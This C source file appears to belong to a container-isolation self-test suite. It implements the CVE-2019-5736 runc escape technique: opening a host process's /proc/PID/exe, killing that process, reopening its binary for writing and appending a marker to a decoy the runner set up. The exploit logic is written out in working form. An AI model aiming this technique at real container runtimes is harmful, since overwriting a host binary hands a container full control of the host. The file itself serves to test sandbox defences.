/* Overwriting a runtime's binary through /proc/PID/exe: the technique of
 * CVE-2019-5736 (runc; https://unit42.paloaltonetworks.com/breaking-docker-via-runc-explaining-cve-2019-5736/).
 * A process that can see a host process in /proc opens the magic link
 * /proc/PID/exe with O_PATH (allowed while the file is being executed),
 * waits for the program to stop running, then reopens the link through
 * /proc/self/fd for writing: the write lands in the host's binary.
 *
 * Target: the runner's decoy, a copy of this binary in the runner's
 * directory, running as a host process whose pid is SELFTEST_DECOY_PID.
 * The attack kills it (so the file is no longer busy) and appends a
 * marker; the runner sees the host file change. */
#include "attack.h"

#include <fcntl.h>
#include <signal.h>
#include <unistd.h>

int attack_proc_pid_exe(void) {
    int pid = decoy_pid();
    char path[64];
    int fd = open_decoy_file("exe", O_PATH, path, sizeof path);
    if (fd < 0)
        BLOCKED_ERRNO("open /proc/DECOY/exe O_PATH");
    if (kill(pid, SIGKILL) < 0)
        printf("kill of the decoy: %s\n", errname(errno));
    char self[64];
    snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
    int w = -1;
    for (int i = 0; i < 200; i++) {
        w = open(self, O_WRONLY | O_APPEND);
        if (w >= 0 || errno != ETXTBSY)
            break;
        usleep(10000);
    }
    if (w < 0)
        BLOCKED_ERRNO("reopen the decoy's binary for writing");
    const char marker[] = "SELFTEST-OVERWRITTEN";
    if (write(w, marker, sizeof marker - 1) != (long)sizeof marker - 1)
        BLOCKED_ERRNO("write into the decoy's binary");
    WORKED("appended to the host binary behind %s", path);
}
